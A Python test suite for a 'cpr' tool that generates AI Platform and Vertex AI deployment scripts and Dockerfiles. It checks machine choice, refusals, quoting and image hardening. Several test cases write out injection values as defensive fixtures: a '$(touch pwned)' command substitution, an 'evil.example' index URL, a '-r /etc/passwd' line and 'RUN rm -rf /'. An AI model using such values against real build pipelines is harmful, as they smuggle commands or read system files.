"""What is emitted for which machine, what is refused, and how it is written."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from support.command import cpr
from targets.conftest import HOSTILE, HOSTILE_URI, MakeBundle

from cpr import resources
from cpr.bundle import Bundle
from cpr.errors import BundleError, CprError, OutputError, StorageError, TargetError
from cpr.machines import read_target
from cpr.manifest import FileEntry
from cpr.report import Finding, Report, Severity
from cpr.steps.targets import RECORD_NAME, at_uri, deploy_config, write_config

URI = "gs://my-bucket/routines"
CONTEXT = {"Dockerfile", ".dockerignore", "build-image.sh", "requirements.txt"}


def report_of(bundle: Bundle, **environment: Any) -> Report:
    environment = {"python": "3.11.7", "packages": {"Numpy": "1.26.4", "cpr-kit": "0.1.0"}} | environment
    return Report(bundle.manifest.digest, "ai-platform", "n1-standard-2", (), {}, environment)


def test_the_uri_may_be_the_destination_or_the_bundle(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    whole = "gs://my-bucket/routines/tiny/1.2.0"
    assert {at_uri(bundle, uri).uri for uri in (URI, URI + "/", whole, whole + "/")} == {whole}


def test_mls1_takes_the_routine_itself(make_bundle: MakeBundle) -> None:
    config = deploy_config(at_uri(make_bundle(), URI), "ai-platform", "mls1-c4-m2")
    assert config.machine_type == "mls1-c4-m2"
    assert set(config.files) == {"version.yaml", "deploy.sh", "README.md"}
    assert config.executable == {"deploy.sh"}


def test_n1_takes_a_container_and_the_reason_is_told(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    config = deploy_config(at_uri(bundle, URI), "ai-platform", "n1-standard-2", source=bundle)
    assert CONTEXT | {"version.yaml", "deploy.sh", "README.md", "bundle/manifest.json"} <= set(config.files)
    assert "only on MLS1 machines" in config.files["README.md"].decode()
    version = yaml.safe_load(config.files["version.yaml"])
    assert not version.keys() & {"predictionClass", "packageUris", "runtimeVersion", "pythonVersion", "framework"}
    assert version["container"]["image"] == "us-central1-docker.pkg.dev/PROJECT_ID/cpr/tiny:v1_2_0"
    assert version["routes"] == {"predict": "/v1/models/tiny:predict", "health": "/v1/models/tiny"}


def test_a_project_is_named_or_missed(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    published = at_uri(bundle, URI)
    assert any("PROJECT_ID" in note for note in deploy_config(published, "vertex-ai", source=bundle).notes)
    config = deploy_config(published, "vertex-ai", source=bundle, project="my-project", region="europe-west4")
    assert not any("PROJECT_ID" in note for note in config.notes)
    model = "projects/my-project/locations/europe-west4/models/tiny@v1-2-0"
    assert json.loads(config.files["deploy-model.json"])["deployedModel"]["model"] == model
    image = json.loads(config.files["upload-model.json"])["model"]["containerSpec"]["imageUri"]
    assert image == "europe-west4-docker.pkg.dev/my-project/cpr/tiny:v1_2_0"
    own = deploy_config(published, "vertex-ai", source=bundle, image="registry.example:5000/a/b:1")
    assert json.loads(own.files["upload-model.json"])["model"]["containerSpec"]["imageUri"] == "registry.example:5000/a/b:1"
    assert b"image=registry.example:5000/a/b:1\n" in own.files["deploy.sh"]


@pytest.mark.parametrize("machine", ["mls1-c1-m2", "n1-standard-2"])
def test_a_retired_target_says_so_and_names_its_successors(machine: str, make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    config = deploy_config(at_uri(bundle, URI), "ai-platform", machine, source=bundle)
    readme = config.files["README.md"].decode()
    assert "2025-01-31" in readme
    assert "cpr deploy-config gs://my-bucket/routines/tiny/1.2.0 --target vertex-ai" in readme
    assert "2025-01-31" in config.notes[0]
    assert "vertex-ai" in config.notes[0]


def test_the_author_part_is_installed_first(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    own = bundle.manifest.sdist
    tool = FileEntry("packages/cpr_kit-0.1.0.tar.gz", 1, "0" * 64)
    manifest = replace(bundle.manifest, tool=replace(bundle.manifest.tool, files=(tool,)))
    published = replace(at_uri(bundle, URI), manifest=manifest)
    version = yaml.safe_load(deploy_config(published, "ai-platform").files["version.yaml"])
    assert [uri.rpartition("/packages/")[2] for uri in version["packageUris"]] == [
        "cpr_kit-0.1.0.tar.gz",
        own.removeprefix("packages/"),
    ]


def test_the_declared_python_is_taken_where_the_runtime_has_it(make_bundle: MakeBundle) -> None:
    for lines, python, told in (
        ("runtime_version: '1.15'\npython: '2.7'\n", "2.7", False),
        ("runtime_version: '1.15'\n", "3.7", False),
        ("python: '3.11'\n", "3.7", True),
    ):
        config = deploy_config(at_uri(make_bundle(lines), URI), "ai-platform")
        assert yaml.safe_load(config.files["version.yaml"])["pythonVersion"] == python
        assert any("Python 3.11" in note for note in config.notes) == told


def test_weak_evidence_becomes_a_note(make_bundle: MakeBundle) -> None:
    config = deploy_config(at_uri(make_bundle("runtime_version: '2.11'\n"), URI), "ai-platform")
    assert any("doubtful" in note for note in config.notes)
    config = deploy_config(at_uri(make_bundle(), URI), "ai-platform", "mls1-highcpu-4")
    assert config.machine_type == "mls1-c4-m2"
    assert any("deprecated" in note for note in config.notes)
    assert "deprecated" in config.files["README.md"].decode()


def test_what_the_last_validation_said_is_passed_on(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    published = at_uri(bundle, URI)
    assert any("no validation record" in note for note in deploy_config(published, "ai-platform").notes)
    good = replace(published, report=report_of(bundle))
    assert not any("validation" in note for note in deploy_config(good, "ai-platform").notes)
    error = Finding("CPR101", Severity.ERROR, "predictor.py", "wrong", "mend it")
    bad = replace(published, report=report_of(bundle)._replace(findings=(error,)))
    assert any("found errors" in note for note in deploy_config(bad, "ai-platform").notes)


@pytest.mark.parametrize(
    ("target", "machine", "options", "error", "says"),
    [
        ("vertex", None, {}, TargetError, "vertex-ai"),
        ("ai-platform", "n1-standart-2", {}, TargetError, "n1-standard-2"),
        ("ai-platform", "mls1-c4-m4", {}, TargetError, "mls1-c4-m2"),
        ("ai-platform", None, {"region": "europe-west4"}, TargetError, "europe-west1"),
        ("ai-platform", None, {"image": "x"}, TargetError, "--image"),
        ("ai-platform", None, {"bake_weights": True}, TargetError, "--bake-weights"),
        ("vertex-ai", None, {"image": "x y"}, TargetError, "REGISTRY/PATH"),
        ("vertex-ai", None, {"image": "a/b:c$(touch pwned)"}, TargetError, "REGISTRY/PATH"),
        ("vertex-ai", None, {"image": "registry.example/Tiny:1"}, TargetError, "REGISTRY/PATH"),
        ("vertex-ai", None, {"project": "My Project"}, TargetError, "id"),
        ("vertex-ai", None, {"region": "us central"}, TargetError, "us-central1"),
    ],
)
def test_refusals(
    target: str, machine: str | None, options: dict[str, Any], error: type[CprError], says: str, make_bundle: MakeBundle
) -> None:
    bundle = make_bundle()
    with pytest.raises(error) as caught:
        deploy_config(at_uri(bundle, URI), target, machine, source=bundle, **options)
    assert says in f"{caught.value.message} {caught.value.remedy}"


@pytest.mark.parametrize("uri", ["s3://my-bucket/x", "file:///tmp/x", "/tmp/x"])
def test_the_bundle_must_lie_where_the_target_reads(uri: str, make_bundle: MakeBundle) -> None:
    with pytest.raises(TargetError) as caught:
        deploy_config(at_uri(make_bundle(), uri), "ai-platform")
    assert "--uri gs://" in caught.value.remedy


def test_a_uri_that_is_none(make_bundle: MakeBundle) -> None:
    with pytest.raises(StorageError):
        at_uri(make_bundle(), "gs:/my-bucket")


def test_a_model_above_the_limit_is_refused_with_a_machine_that_takes_it(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    published = at_uri(bundle, URI)
    big = FileEntry("model/big.bin", 500_000_001, "0" * 64)
    published = replace(published, manifest=replace(published.manifest, files=tuple(sorted((*bundle.manifest.files, big)))))
    with pytest.raises(TargetError) as caught:
        deploy_config(published, "ai-platform")
    assert "500000000" in caught.value.message
    assert "n1-standard-2" in caught.value.remedy


def test_too_many_files_are_refused(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    many = tuple(FileEntry(f"model/{number:04}", 1, "0" * 64) for number in range(1000))
    manifest = replace(bundle.manifest, files=tuple(sorted((*bundle.manifest.files, *many))))
    with pytest.raises(TargetError, match="1001 files"):
        deploy_config(replace(at_uri(bundle, URI), manifest=manifest), "ai-platform")


def test_labels_that_the_target_refuses(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    manifest = replace(bundle.manifest, labels=(("team", "Search, or ads"),))
    with pytest.raises(TargetError, match="Search"):
        deploy_config(replace(at_uri(bundle, URI), manifest=manifest), "vertex-ai", source=bundle)


def test_a_container_is_made_of_checked_files_only(make_bundle: MakeBundle, tmp_path: Path) -> None:
    root = tmp_path / "bundle"
    shutil.copytree(make_bundle().root, root)
    bundle = Bundle.open(root)
    sdist = bundle.path(bundle.manifest.sdist)
    content = sdist.read_bytes()
    sdist.write_bytes(content[:-1] + b"x")
    with pytest.raises(BundleError, match="not what its manifest says"):
        deploy_config(at_uri(bundle, URI), "vertex-ai", source=bundle)
    sdist.unlink()
    with pytest.raises(BundleError, match="missing"):
        deploy_config(at_uri(bundle, URI), "vertex-ai", source=bundle)
    with pytest.raises(BundleError, match="not the one that is published"):
        deploy_config(at_uri(make_bundle(), URI), "vertex-ai", source=make_bundle("description: another\n"))


def test_a_damaged_validation_record_is_refused(make_bundle: MakeBundle, tmp_path: Path) -> None:
    root = tmp_path / "bundle"
    shutil.copytree(make_bundle().root, root)
    for text in ("", "[]", "{}", '{"digest": 1}', "[" * 100_000):
        (root / "validation.json").write_text(text)
        with pytest.raises(BundleError, match="validation record"):
            at_uri(Bundle.open(root), URI)


def test_a_record_about_another_bundle_is_no_record(make_bundle: MakeBundle, tmp_path: Path) -> None:
    root = tmp_path / "bundle"
    shutil.copytree(make_bundle().root, root)
    other = report_of(make_bundle("description: another\n"))
    (root / "validation.json").write_text(json.dumps(other.to_json()))
    assert at_uri(Bundle.open(root), URI).report is None
    (root / "validation.json").write_text(json.dumps(report_of(make_bundle()).to_json()))
    assert at_uri(Bundle.open(root), URI).report == report_of(make_bundle())


# --- scripts and the Dockerfile


def scripts(config_files: dict[str, bytes], folder: Path) -> list[Path]:
    found = []
    for name, content in config_files.items():
        if name.endswith(".sh"):
            path = folder / name
            path.write_bytes(content)
            found.append(path)
    return found


@pytest.mark.parametrize(
    ("target", "machine", "baked"),
    [
        ("ai-platform", "mls1-c1-m2", False),
        ("ai-platform", "n1-standard-2", False),
        ("ai-platform", "n1-standard-2", True),
        ("vertex-ai", "e2-standard-2", False),
        ("vertex-ai", "e2-standard-2", True),
    ],
)
def test_scripts_are_good_shell_whatever_the_values(
    target: str, machine: str, baked: bool, make_bundle: MakeBundle, tmp_path: Path
) -> None:
    bundle = make_bundle("description: " + json.dumps(HOSTILE) + "\n")
    config = deploy_config(at_uri(bundle, HOSTILE_URI), target, machine, source=bundle, bake_weights=baked)
    for script in scripts(dict(config.files), tmp_path):
        done = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True)
        assert (done.returncode, done.stderr) == (0, "")
        text = script.read_text()
        assert "set -euo pipefail" in text
        # Run only the assignments: they hold the values, and nothing of them is carried out.
        lines = [line for line in text.splitlines() if re.match(r"[A-Za-z_]+='", line)]
        ran = subprocess.run(
            ["bash", "-euc", "\n".join([*lines, 'printf %s "${ARTIFACT_URI:-${WEIGHTS_URI:-}}"'])],
            cwd=tmp_path,
            capture_output=True,
            text=True,
        )
        assert ran.returncode == 0, ran.stderr
        assert ran.stdout in ("", f"{HOSTILE_URI}/tiny/1.2.0/model")
    assert not (tmp_path / "pwned").exists()


STUB = """#!/bin/bash
for argument in "$@"; do
  case $argument in --config=*) cp "${argument#--config=}" "$CALLS.yaml" ;; esac
done
echo "$(basename "$0") $*" >>"$CALLS"
[ "$2" != repositories ] || [ "$3" != describe ]
"""


@pytest.mark.parametrize(("target", "machine"), [("ai-platform", "n1-standard-2"), ("vertex-ai", "n1-standard-2")])
@pytest.mark.parametrize("description", ["one line", "two\nimage: y", "more\n  image: y\ncontainer:\n  image: z"])
def test_the_project_may_be_named_late_and_be_a_domains(
    target: str, machine: str, description: str, make_bundle: MakeBundle, tmp_path: Path
) -> None:
    bundle = make_bundle("description: " + json.dumps(description) + "\n")
    config = deploy_config(at_uri(bundle, URI), target, machine, source=bundle)
    write_config(config, tmp_path / "deploy")
    for name in ("gcloud", "docker"):
        (tmp_path / name).write_text(STUB)
        (tmp_path / name).chmod(0o755)
    calls = tmp_path / "calls"
    environment = {"PATH": f"{tmp_path}:{os.environ['PATH']}", "PROJECT": "example.com:proj", "CALLS": str(calls)}
    done = subprocess.run([tmp_path / "deploy" / "deploy.sh"], env=environment, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    image = "us-central1-docker.pkg.dev/example.com/proj/cpr/tiny:v1_2_0"
    told = calls.read_text()
    assert f"docker push {image}\n" in told
    assert "repositories create cpr --project=example.com:proj --location=us-central1" in told
    named = deploy_config(at_uri(bundle, URI), target, machine, source=bundle, project="example.com:proj")
    if target == "ai-platform":
        expected = yaml.safe_load(named.files["version.yaml"])
        assert expected["container"]["image"] == image
        assert yaml.safe_load((tmp_path / "calls.yaml").read_text()) == expected
    else:
        assert json.loads(named.files["upload-model.json"])["model"]["containerSpec"]["imageUri"] == image


def test_templates_write_no_value_into_a_script_unquoted() -> None:
    places = 0
    for name in resources.target_names():
        for variant in {machine.variant for machine in read_target(name).machines}:
            for file, text in [*resources.read_texts(name, variant).items(), *resources.read_texts("container").items()]:
                if file.endswith(".sh"):
                    found = re.findall(r"@[a-z_]+(:[a-z]+)?@", text)
                    places += len(found)
                    assert set(found) <= {":sh"}
    assert places > 10


def test_nothing_is_left_unfilled(make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    for target, machine in (("ai-platform", "mls1-c1-m2"), ("ai-platform", "n1-standard-2"), ("vertex-ai", None)):
        for name, content in deploy_config(at_uri(bundle, URI), target, machine, source=bundle).files.items():
            if not name.startswith(("bundle/", "wheels/")):
                assert not re.search(rb"@[a-z_]+(:[a-z]+)?@", content), name


def dockerfile(make_bundle: MakeBundle, **options: Any) -> str:
    bundle = make_bundle()
    published = replace(at_uri(bundle, URI), report=report_of(bundle))
    return deploy_config(published, "vertex-ai", source=bundle, **options).files["Dockerfile"].decode()


def test_the_image_is_pinned_and_runs_without_rights(make_bundle: MakeBundle) -> None:
    text = dockerfile(make_bundle)
    assert "\nFROM python:3.11.7-slim\n" in text
    user = re.search(r"^USER (.*)$", text, re.M)
    assert user is not None
    assert re.fullmatch(r"[1-9]\d*:[1-9]\d*", user[1])
    assert text.index("USER") < text.index("ENTRYPOINT")
    for line in re.findall(r"^(?:RUN|COPY|ENTRYPOINT|CMD) (.*)$", text, re.M):
        assert line.startswith("["), "the exec form needs no shell and no quoting"
    assert "ADD " not in text
    assert "latest" not in text


def test_weights_are_fetched_at_start_or_lie_in_a_layer_of_their_own(make_bundle: MakeBundle) -> None:
    fetched, baked = dockerfile(make_bundle), dockerfile(make_bundle, bake_weights=True)
    assert "bundle/model" not in fetched
    assert '[serve,gcs]"' in fetched
    assert 'COPY ["bundle/model", "/opt/bundle/model"]\n' in baked
    assert '[serve]"' in baked
    bundle = make_bundle()
    config = deploy_config(at_uri(bundle, URI), "vertex-ai", source=bundle, bake_weights=True)
    assert b"artifactUri" not in config.files["upload-model.json"]
    assert b"WEIGHTS_URI=gs://my-bucket/routines/tiny/1.2.0/model\n" in config.files["build-image.sh"]


def test_requirements_are_those_it_was_validated_with(make_bundle: MakeBundle) -> None:
    bundle = make_bundle("requirements: [numpy]\n")
    published = replace(at_uri(bundle, URI), report=report_of(bundle))
    assert deploy_config(published, "vertex-ai", source=bundle).files["requirements.txt"] == b"Numpy==1.26.4\n"
    config = deploy_config(at_uri(bundle, URI), "vertex-ai", source=bundle)
    assert config.files["requirements.txt"] == b"numpy\n"
    assert any("pin them" in note for note in config.notes)


@pytest.mark.parametrize(
    "environment",
    [
        {"packages": {"numpy\n--index-url=http://evil.example/": "1"}},
        {"packages": {"numpy": "1\n-r /etc/passwd"}},
        {"packages": {"numpy": 1}},
        {"packages": ["numpy"]},
        {"python": "3.11-slim\nRUN rm -rf /"},
        {"python": 3.11},
    ],
    ids=str,
)
def test_a_record_cannot_smuggle_lines_into_the_image(environment: dict[str, Any], make_bundle: MakeBundle) -> None:
    bundle = make_bundle()
    published = replace(at_uri(bundle, URI), report=report_of(bundle, **environment))
    with pytest.raises(BundleError, match="validation record"):
        deploy_config(published, "vertex-ai", source=bundle)


@pytest.mark.parametrize(
    ("declared", "image", "told"),
    [
        ("", "3.11.7", False),
        ("python: '3.11'\n", "3.11.7", False),
        ("python: '3.12'\n", "3.12", True),
        ("python: '3.7'\n", "3.11.7", True),
        ("python: '3.1'\n", "3.11.7", True),
    ],
)
def test_the_python_of_the_image(declared: str, image: str, told: bool, make_bundle: MakeBundle) -> None:
    bundle = make_bundle(declared)
    published = replace(at_uri(bundle, URI), report=report_of(bundle))
    config = deploy_config(published, "vertex-ai", source=bundle)
    assert f"FROM python:{image}-slim\n" in config.files["Dockerfile"].decode()
    assert any("Python" in note for note in config.notes) == told


def test_an_image_gets_the_tensorflow_that_a_runtime_would_have_brought(make_bundle: MakeBundle) -> None:
    bundle = make_bundle("tensorflow: '2.15'\nrequirements: [numpy]\n")
    config = deploy_config(at_uri(bundle, URI), "vertex-ai", source=bundle)
    assert config.files["requirements.txt"] == b"numpy\ntensorflow==2.15.*\n"
    named = make_bundle("tensorflow: '2.15'\nrequirements: [tensorflow-cpu==2.15.1]\n")
    config = deploy_config(at_uri(named, URI), "vertex-ai", source=named)
    assert config.files["requirements.txt"] == b"tensorflow-cpu==2.15.1\n"


# --- writing


def test_writes_whole_folders_and_replaces_its_own(make_bundle: MakeBundle, tmp_path: Path) -> None:
    bundle = make_bundle()
    folder = tmp_path / "out" / "deploy"
    container = deploy_config(at_uri(bundle, URI), "vertex-ai", source=bundle)
    written = write_config(container, folder)
    on_disk = {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}
    assert on_disk == set(written) == {*container.files, RECORD_NAME}
    for name, content in container.files.items():
        assert (folder / name).read_bytes() == content
        assert bool((folder / name).stat().st_mode & 0o100) == (name in container.executable)
    routine = deploy_config(at_uri(bundle, URI), "ai-platform")
    assert set(write_config(routine, folder)) == {*routine.files, RECORD_NAME}
    assert not (folder / "Dockerfile").exists()
    assert [path.name for path in folder.parent.iterdir()] == ["deploy"]


def test_weights_that_a_script_fetched_do_not_stand_in_the_way(make_bundle: MakeBundle, tmp_path: Path) -> None:
    bundle = make_bundle()
    config = deploy_config(at_uri(bundle, URI), "vertex-ai", source=bundle, bake_weights=True)
    write_config(config, tmp_path / "deploy")
    (tmp_path / "deploy/bundle/model").mkdir()
    (tmp_path / "deploy/bundle/model/factor.json").write_text("3")
    write_config(config, tmp_path / "deploy")


@pytest.mark.parametrize("change", ["edited", "added", "foreign", "file", "record"])
def test_what_others_wrote_is_not_replaced(change: str, make_bundle: MakeBundle, tmp_path: Path) -> None:
    config = deploy_config(at_uri(make_bundle(), URI), "ai-platform")
    folder = tmp_path / "deploy"
    if change == "file":
        folder.write_text("mine")
    elif change == "foreign":
        folder.mkdir()
        (folder / "mine").write_text("mine")
    else:
        write_config(config, folder)
        name = {"edited": "deploy.sh", "added": "mine", "record": RECORD_NAME}[change]
        (folder / name).write_text("[1]")
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    with pytest.raises(OutputError) as caught:
        write_config(config, folder)
    assert "-o" in caught.value.remedy
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before


# --- the command


def test_the_verb(make_bundle: MakeBundle, tmp_path: Path) -> None:
    bundle = make_bundle()
    ran = cpr("deploy-config", bundle.root, "--uri", URI, "--target", "ai-platform", "--json", cwd=tmp_path)
    assert ran.status == 0, ran.err
    document = ran.document
    assert document["schema"] == "cpr.deploy-config/1"
    assert (document["target"], document["machine_type"]) == ("ai-platform", "mls1-c1-m2")
    assert set(document["files"]) == {
        f"deploy-ai-platform-mls1-c1-m2/{name}" for name in ("README.md", RECORD_NAME, "deploy.sh", "version.yaml")
    }
    assert all((tmp_path / name).is_file() for name in document["files"])
    assert "2025-01-31" in ran.err


@pytest.mark.parametrize(
    ("arguments", "status", "kind", "says"),
    [
        (["--target", "ai-platform"], 1, "TargetError", "--uri gs://"),
        (["--target", "ai-platfrom", "--uri", URI], 1, "TargetError", "ai-platform"),
        (["--target", "vertex-ai", "--machine-type", "n1-standard-3", "--uri", URI], 1, "TargetError", "n1-standard-"),
        (["--uri", URI], 2, "UsageError", "--target"),
    ],
)
def test_the_verb_says_what_is_wrong(
    arguments: list[str], status: int, kind: str, says: str, make_bundle: MakeBundle, tmp_path: Path
) -> None:
    ran = cpr("deploy-config", make_bundle().root, *arguments, "--json", cwd=tmp_path)
    assert ran.status == status
    assert ran.error["type"] == kind
    assert says in f"{ran.error['message']} {ran.error['remedy']}"
    assert list(tmp_path.iterdir()) == []


def test_a_uri_for_a_uri_is_wrong_usage(tmp_path: Path) -> None:
    ran = cpr("deploy-config", "gs://a-bucket/b", "--uri", URI, "--target", "vertex-ai", "--json", cwd=tmp_path)
    assert (ran.status, ran.error["type"]) == (2, "UsageError")
